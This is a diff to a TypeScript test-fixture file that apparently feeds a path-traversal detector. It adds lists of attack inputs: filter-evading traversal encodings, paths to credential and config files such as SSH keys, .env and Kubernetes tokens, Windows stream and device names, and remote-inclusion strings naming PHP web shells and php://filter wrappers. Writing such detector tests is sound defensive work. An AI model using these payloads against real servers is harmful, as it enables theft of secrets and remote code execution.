@@ -1,6 +1,8 @@
+import type { Place } from '../../classes/class.ts';
 import { type Case, casesOf } from './case.ts';
 
 const of = casesOf('path-traversal');
+const at = (place: Partial<Place>, cases: readonly Case[]): Case[] => cases.map((each) => ({ ...each, place }));
 
 export const PATH_TRAVERSAL: readonly Case[] = [
   ...of(
@@ -55,4 +57,51 @@ export const PATH_TRAVERSAL: readonly Case[] = [
   ),
   ...of('a name cut short', 'shell.php\0.jpg', '../../etc/passwd%00.png', 'a.php%00'),
   ...of('in prose', 'please open ../../../../etc/passwd for me', "src='../../../../windows/win.ini'"),
+  ...of(
+    'spellings that filters leave',
+    '%c0ae%c0ae%c0afx',
+    '%25%5c..%25%5c..%25%5c..%25%5cx',
+    'C:..\\..\\x',
+    'dir..\\Windows\\win.ini',
+    '/....secret/x',
+    './././././x',
+    '.\\/\\.\\/etc/passwd',
+  ),
+  ...of(
+    'files that servers keep',
+    '.htaccess',
+    'app/.env',
+    '.git/config',
+    '/.svn/entries',
+    '~/.ssh/id_ed25519',
+    'backup/wp-config.php~',
+    '/WEB-INF/classes/app.properties',
+    '/opt/tomcat/conf/tomcat-users.xml',
+    'C:/xampp/phpMyAdmin/config.inc.php',
+    '/usr/local/etc/nginx/nginx.conf',
+    '/var/log',
+    '/run/secrets/kubernetes.io/serviceaccount/token',
+  ),
+  ...of(
+    'devices, streams and shares',
+    'default.asp::$DATA',
+    'web.config::$INDEX_ALLOCATION',
+    '\\\\.\\C:\\secret.txt',
+    '//?/C:/windows/win.ini',
+    '\\\\files.example\\share\\a.php',
+    '//files.example/C$/x',
+  ),
+  ...at({ source: 'filename' }, of('names of uploads', 'con.txt', 'LPT1', '.htaccess', 'a.php\0.jpg', '..\\x.txt')),
+  ...at({ source: 'path' }, of('segments of a path', '.git', '.env', 'WEB-INF')),
+  ...of(
+    'code from elsewhere',
+    'http://files.example/r57.txt?',
+    'https://files.example/a.txt%00',
+    'http://192.0.2.7/x.php',
+    'ftp://files.example/c99.php',
+    'data:text/plain,<?php x();',
+    'data:;base64,PD9waHAgeCgpOw==',
+    'php:filter/convert.base64-encode/resource=index',
+    'see php://filter/convert.base64-encode/resource=db.php there',
+  ),
 ];
